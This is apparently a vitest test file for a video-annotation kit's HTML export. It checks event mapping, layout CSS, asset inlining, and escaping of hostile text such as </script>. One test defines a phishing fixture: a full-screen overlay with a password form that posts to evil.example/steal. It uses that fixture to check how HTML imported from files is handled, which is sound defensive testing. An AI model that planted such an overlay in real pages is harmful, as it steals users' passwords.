import { readFileSync } from "node:fs";
import { describe, expect, test } from "vitest";
import { layoutCss, layoutRules } from "../../src/export/code/layout.js";
import { KIT_VERSION } from "../../src/export/code/version.js";
import { HTML_ASSETS } from "../../src/export/assets/htmlAssets.js";
import { inlineScript } from "../../src/export/code/literal.js";
import { exportHtml } from "../../src/export/html.js";
import { COMPAT_RUNTIME_URL, KIT_STYLESHEET_URL, LEAFLET_URLS } from "../../src/export/htmlPage.js";
import { createProject } from "../../src/project/createProject.js";
import type { Project } from "../../src/project/types.js";
import { HOSTILE, SCENE } from "../fixtures/scene.js";

/** The scene's data as the page's own code reads it: the JSON block's text, parsed. */
function pageData(html: string): {
  media: { embed: boolean; src: string | null };
  trim: { from: number; to: number | null };
  events: { method: string; options: Record<string, unknown> }[];
} {
  const match = /<script type="application\/json" id="pk-scene-data">([\s\S]*?)<\/script>/.exec(html);
  if (!match) throw new Error("no data block");
  return JSON.parse(match[1]!);
}

describe("exportHtml", () => {
  test("writes every event of the scene through its Popcorn 1.x method, with compat's option names", () => {
    const { code, skipped } = exportHtml(SCENE);
    expect(skipped).toEqual([]);
    const { events, media } = pageData(code);
    expect(media).toEqual({ embed: false, src: "clip.webm" });
    expect(events).toHaveLength(30);
    const methods = new Set(events.map((e) => e.method));
    expect([...methods].sort()).toEqual(
      [
        "attribution",
        "callout",
        "footnote",
        "image",
        "lowerthird",
        "subtitle",
        "tagthisperson",
        "text",
        "wordriver",
      ].sort(),
    );
    expect(events).toContainEqual({
      method: "lowerthird",
      options: { start: 0.2, end: 3.2, name: "Ada Lovelace", role: "Mathematician", target: "lower" },
    });
    expect(events).toContainEqual({
      method: "callout",
      options: {
        start: 4.8,
        end: 7.5,
        text: HOSTILE.quotes,
        shape: "speech",
        tail: "bottom-left",
        href: "https://example.org/pier",
        target: "bubble",
      },
    });
    expect(events).toContainEqual({
      method: "text",
      options: { start: 3, end: 5, text: "<em>Live</em> from the harbour", target: "badge" },
    });
    expect(events).toContainEqual({
      method: "text",
      options: { start: 5, end: 7, text: "Tide: <high>", escape: true, target: "badge" },
    });
    // Subtitles with no outlet go to the captions box over the video.
    expect(events.filter((e) => e.method === "subtitle").every((e) => e.options.target === "pk-scene-captions")).toBe(
      true,
    );
  });

  test("html imported from a file goes through a parse method of the page's own, as a file's data, never through the page's methods", () => {
    const phishing =
      '<div style="position:fixed;inset:0"><form action="https://evil.example/steal"><input type="password"></form></div>';
    const project = createProject({
      id: "p-files",
      media: { source: { kind: "url", url: "a.webm" } },
      lanes: [
        {
          id: "a",
          events: [
            { id: "t1", type: "text", start: 1, end: 4, options: { text: "", html: phishing }, origin: "file" },
            { id: "f2", type: "footnote", start: 6, end: 8, options: { text: "Mine" } },
          ],
        },
      ],
    });
    const { code, skipped } = exportHtml(project);
    expect(skipped).toEqual([]);
    const data = pageData(code) as ReturnType<typeof pageData> & { fromFiles: { method: string; options: object }[] };
    expect(data.events).toEqual([{ method: "footnote", options: { start: 6, end: 8, text: "Mine" } }]);
    expect(data.fromFiles).toEqual([{ method: "text", options: { start: 1, end: 4, text: phishing } }]);
    expect(code).toContain('Popcorn.parser("parseSceneFiles", "JSON", function (file) {');
    expect(code).toContain("pop.parseSceneFiles({ text: JSON.stringify(data.fromFiles.map(shown)) });");
  });

  test("a text with </script> or <!-- cannot end or change a script block, and reads back as written", () => {
    const { code } = exportHtml(SCENE, { runtime: { src: "popcorn-complete.js" } });
    // Three blocks: the data, the runtime, the page's code; nothing else opens or closes one.
    expect(code.match(/<script\b/g)).toHaveLength(3);
    expect(code.match(/<\/script>/g)).toHaveLength(3);
    expect(code).not.toContain("<!-- not a comment");
    const texts = pageData(code).events.flatMap((e) => Object.values(e.options));
    for (const text of Object.values(HOSTILE)) expect(texts).toContain(text);
    expect(code).toContain('<title>Harbour "scene" &lt;/title&gt; {{ 1 }}</title>');
  });

  test("lays out each outlet in its area, as an element whose id is its name", () => {
    const { code } = exportHtml(SCENE);
    const area = (name: string) =>
      new RegExp(`<div class="pk-scene-${name}">([\\s\\S]*?)\\n    </div>`).exec(code)?.[1] ?? "";
    expect(area("over")).toContain('<div id="badge"');
    expect(area("over")).toContain('id="pk-scene-captions"');
    expect(area("beside")).toContain('<div id="notes"');
    expect(area("beside")).toContain('<div id="gallery"');
    expect(area("below")).toContain('<div id="credits"');
    expect(code).toContain(layoutCss(SCENE.layout));
  });

  test("the runtime: its text inline by default, a given address, or a given text", () => {
    const inlined = exportHtml(SCENE).code;
    expect(inlined).toContain(`<script>\n${inlineScript(HTML_ASSETS.runtime!)}\n</script>`);
    expect(inlined).not.toContain("<script src=");
    expect(COMPAT_RUNTIME_URL).toBe(
      `https://cdn.jsdelivr.net/npm/@popcorn-kit/compat@${KIT_VERSION}/dist/global/popcorn-complete.js`,
    );
    const linked = exportHtml(SCENE, { runtime: { src: "js/popcorn-complete.js" } }).code;
    expect(linked).toContain('<script src="js/popcorn-complete.js"></script>');
    expect(linked).not.toContain(HTML_ASSETS.runtime!.slice(0, 200));
    const inline = exportHtml(SCENE, { runtime: { script: 'var s = "</script>"; window.Popcorn = 1;' } }).code;
    expect(inline).toContain('var s = "<\\/script>"; window.Popcorn = 1;');
    expect(inline.match(/<\/script>/g)).toHaveLength(3);
    expect(() => exportHtml(SCENE, { runtime: { href: "a.js" } as never })).toThrow(/exportHtml\(\) option runtime/);
  });

  test("a map: written with compat's googlemap in the kit's names, the page loading Leaflet before the runtime", () => {
    const markers = [{ lat: 40.71, lng: -74.01, label: "New York City" }];
    const withMap = createProject({
      id: "p-map",
      lanes: [
        {
          id: "a",
          events: [
            {
              id: "m",
              type: "map",
              start: 1,
              end: 4,
              options: { lat: 40.71, lng: -74.01, zoom: 11, markers, label: "New York City", target: "m" },
            },
          ],
        },
      ],
      layout: { outlets: [{ name: "m", placement: "over", box: { left: 0, top: 0, width: 100, height: 100 } }] },
    });
    const { code, skipped } = exportHtml(withMap);
    expect(skipped).toEqual([]);
    expect(pageData(code).events).toEqual([
      {
        method: "googlemap",
        options: {
          start: 1,
          end: 4,
          lat: 40.71,
          lng: -74.01,
          zoom: 11,
          markers,
          location: "New York City",
          target: "m",
        },
      },
    ]);
    // By default, the Leaflet the editor was built with, inline, before the runtime.
    const leaflet = code.indexOf(`<script>\n${inlineScript(HTML_ASSETS.leaflet!.script)}\n</script>`);
    expect(leaflet).toBeGreaterThan(0);
    expect(leaflet).toBeLessThan(code.indexOf(`<script>\n${inlineScript(HTML_ASSETS.runtime!)}\n</script>`));
    expect(code).toContain(`<style>\n${HTML_ASSETS.leaflet!.css}\n</style>`);
    expect(HTML_ASSETS.leaflet!.script).toContain("Leaflet 1.9");
    // Linked, it comes before the runtime too, and the page names its address where a map cannot show.
    const linked = exportHtml(withMap, { leaflet: LEAFLET_URLS, runtime: { src: COMPAT_RUNTIME_URL } }).code;
    const tag = linked.indexOf(`<script src="${LEAFLET_URLS.src}"></script>`);
    expect(tag).toBeGreaterThan(0);
    expect(tag).toBeLessThan(linked.indexOf(`<script src="${COMPAT_RUNTIME_URL}"></script>`));
    expect(linked).toContain(`<link rel="stylesheet" href="${LEAFLET_URLS.href}">`);
    expect((pageData(linked) as unknown as { links: unknown }).links).toEqual({
      runtime: COMPAT_RUNTIME_URL,
      leaflet: LEAFLET_URLS.src,
    });
    const inline = exportHtml(withMap, { leaflet: { script: "window.L = {};", css: ".leaflet-pane {}" } }).code;
    expect(inline).toContain("window.L = {};");
    expect(inline).toContain(".leaflet-pane {}");
    // A page with no map loads no Leaflet; a leaflet option of another shape is refused.
    const noMap = exportHtml(SCENE, { leaflet: LEAFLET_URLS }).code;
    expect(noMap).not.toContain(LEAFLET_URLS.src);
    expect(noMap).not.toContain(LEAFLET_URLS.href);
    expect(exportHtml(SCENE).code).not.toContain(HTML_ASSETS.leaflet!.script.slice(0, 200));
    expect(() => exportHtml(withMap, { leaflet: { src: "l.js" } as never })).toThrow(/exportHtml\(\) option leaflet/);
  });

  test("the kit's stylesheet: its text inline by default, a given address, or a given text", () => {
    const inlined = exportHtml(SCENE).code;
    expect(HTML_ASSETS.stylesheet).toContain(".pk-footnote");
    expect(inlined).toContain(`<style>\n${HTML_ASSETS.stylesheet!.replace(/<\/(style)/gi, "<\\/$1")}\n</style>`);
    expect(inlined).not.toContain("<link");
    expect(KIT_STYLESHEET_URL).toBe(
      `https://cdn.jsdelivr.net/npm/@popcorn-kit/core@${KIT_VERSION}/src/styles/popcorn-kit.css`,
    );
    expect(exportHtml(SCENE, { stylesheet: { href: "kit.css" } }).code).toContain(
      '<link rel="stylesheet" href="kit.css">',
    );
    const inline = exportHtml(SCENE, { stylesheet: { css: '.a::after { content: "</style>"; }' } }).code;
    expect(inline).toContain('<style>\n.a::after { content: "<\\/style>"; }\n</style>');
    expect(() => exportHtml(SCENE, { stylesheet: "kit.css" as never })).toThrow(/exportHtml\(\) option stylesheet/);
  });

  test("KIT_VERSION is the package's version", () => {
    const pkg = JSON.parse(readFileSync(new URL("../../package.json", import.meta.url), "utf8"));
    expect(KIT_VERSION).toBe(pkg.version);
  });

  test("the media: a URL as it is, a local file by its name or mediaUrl, YouTube through Popcorn.smart", () => {
    const withSource = (source: Project["media"]["source"]) => createProject({ id: "p", media: { source } });
    expect(pageData(exportHtml(withSource({ kind: "url", url: "https://example.org/a.mp4" })).code).media.src).toBe(
      "https://example.org/a.mp4",
    );
    expect(exportHtml(withSource({ kind: "file", name: "my clip.webm" })).code).toContain('src="my%20clip.webm"');
    expect(exportHtml(withSource({ kind: "file", name: "a.webm" }), { mediaUrl: "/media/a.webm" }).code).toContain(
      'src="/media/a.webm"',
    );
    const youtube = exportHtml(withSource({ kind: "youtube", url: "https://youtu.be/dQw4w9WgXcQ" })).code;
    expect(pageData(youtube).media).toEqual({ embed: true, src: "https://youtu.be/dQw4w9WgXcQ" });
    expect(youtube).toContain('<div id="pk-video" class="pk-scene-video"></div>');
  });

  test("the trim is in the data the page's code keeps playback within", () => {
    const project = createProject({ id: "p", media: { duration: 10, trim: { in: 2, out: 8 } } });
    expect(pageData(exportHtml(project).code).trim).toEqual({ from: 2, to: 8 });
  });

  test("a callout goes through compat's callout method, a timeline item through its timeline method", () => {
    const project = createProject({
      id: "p",
      lanes: [
        {
          id: "a",
          events: [
            {
              id: "c",
              type: "callout",
              start: 0,
              end: 2,
              options: { text: "Watch the pier", shape: "thought", tail: "top-right", href: "https://example.org/" },
            },
            {
              id: "t",
              type: "timeline",
              start: 2,
              end: 4,
              options: { title: "1911", text: "The harbour opens.", image: "a.jpg", order: "newest-first" },
            },
            {
              id: "u",
              type: "timeline",
              start: 4,
              end: 6,
              options: { title: "1920", image: "b.jpg", alt: "The quay" },
            },
          ],
        },
      ],
    });
    const { code, skipped } = exportHtml(project);
    expect(skipped.map((s) => [s.path, s.severity])).toEqual([["lanes[0].events[2].options.alt", "warning"]]);
    expect(pageData(code).events).toEqual([
      {
        method: "callout",
        options: {
          start: 0,
          end: 2,
          text: "Watch the pier",
          shape: "thought",
          tail: "top-right",
          href: "https://example.org/",
        },
      },
      {
        method: "timeline",
        options: { start: 2, end: 4, title: "1911", text: "The harbour opens.", image: "a.jpg", direction: "up" },
      },
      { method: "timeline", options: { start: 4, end: 6, title: "1920", image: "b.jpg" } },
    ]);
  });

  test("a text with markup goes with escape: true where compat reads the 1.x option as HTML, so it shows as written", () => {
    const project = createProject({
      id: "p",
      lanes: [
        {
          id: "a",
          events: [
            { id: "f", type: "footnote", start: 0, end: 1, options: { text: "Fish & <chips>" } },
            { id: "g", type: "footnote", start: 1, end: 2, options: { text: "Plain" } },
            { id: "l", type: "lowerthird", start: 2, end: 3, options: { name: "<Ada>", title: "Countess" } },
            { id: "c", type: "callout", start: 3, end: 4, options: { text: "Tea & cake" } },
          ],
        },
      ],
    });
    expect(pageData(exportHtml(project).code).events.map((e) => [e.method, e.options.escape])).toEqual([
      ["footnote", true],
      ["footnote", undefined],
      ["lowerthird", true],
      // compat's callout takes its text as text: nothing to say.
      ["callout", undefined],
    ]);
  });

  test("events no 1.x method writes are left out and listed; lossy ones are listed as warnings", () => {
    const project = createProject({
      id: "p",
      lanes: [
        {
          id: "a",
          events: [
            { id: "u", type: "twitter", start: 0, end: 1, options: {} },
            { id: "c", type: "chapter", start: 1, end: 2, options: { title: "One" } },
            { id: "i", type: "image", start: 2, end: 3, options: { src: "a.png", alt: "A cat", caption: "Ours" } },
            { id: "s", type: "subtitle", start: 3, end: 4, options: { text: "Hi", voice: "Ann" } },
          ],
        },
      ],
    });
    const { code, skipped } = exportHtml(project);
    expect(skipped.map((s) => [s.path, s.severity])).toEqual([
      ["lanes[0].events[0]", "error"],
      ["lanes[0].events[1]", "error"],
      ["lanes[0].events[3].options.voice", "warning"],
    ]);
    expect(pageData(code).events).toEqual([
      // 1.x's text, and the kit's names that tell the alternative text from the caption, which compat reads.
      { method: "image", options: { start: 2, end: 3, src: "a.png", text: "Ours", alt: "A cat", caption: "Ours" } },
      { method: "subtitle", options: { start: 3, end: 4, text: "Hi", target: "pk-scene-captions" } },
    ]);
  });
});

describe("the layout's CSS", () => {
  const outlet = (name: string, placement: "over" | "beside" | "below") => ({
    name,
    placement,
    box: { left: 10, top: 20, width: 30.5, height: 40 },
  });
  const rule = (layout: Project["layout"], selector: string) =>
    Object.fromEntries(layoutRules(layout).find((r) => r.selector === selector)?.declarations ?? []);

  test("places each outlet's box in percent of its area", () => {
    const layout = { outlets: [outlet("a", "over"), outlet("b", "beside"), { ...outlet("c", "below"), zIndex: 2 }] };
    expect(rule(layout, ".pk-scene-outlet-a")).toEqual({
      left: "10%",
      top: "20%",
      width: "30.5%",
      height: "40%",
    });
    expect(rule(layout, ".pk-scene-outlet-c")).toMatchObject({ "z-index": "2" });
  });

  test("animates content coming into an outlet with a transition, unless reduced motion is asked for", () => {
    const css = layoutCss({ outlets: [{ ...outlet("a", "over"), transition: "fade" }, outlet("b", "below")] });
    expect(css).toContain(
      "@media (prefers-reduced-motion: no-preference) {\n  .pk-scene-outlet-a > * > * {\n    animation: pk-scene-fade 0.35s ease-out;\n  }\n}",
    );
    expect(css).toContain("@keyframes pk-scene-fade {\n  from { opacity: 0; }\n}");
    expect(css).not.toContain("pk-scene-outlet-b > *");
    expect(layoutCss({ outlets: [outlet("b", "below")] })).not.toContain("@keyframes");
  });

  test("has a column beside the video only with an outlet beside, a band below only with one below", () => {
    expect(rule({ outlets: [outlet("a", "over")] }, ".pk-scene")["grid-template-areas"]).toBe('"video"');
    expect(rule({ outlets: [outlet("a", "beside")] }, ".pk-scene")["grid-template-areas"]).toBe('"video beside"');
    expect(rule({ outlets: [outlet("a", "below")] }, ".pk-scene")["grid-template-areas"]).toBe('"video" "below"');
    expect(rule({ outlets: [outlet("a", "beside"), outlet("b", "below")] }, ".pk-scene")["grid-template-areas"]).toBe(
      '"video beside" "below below"',
    );
  });
});
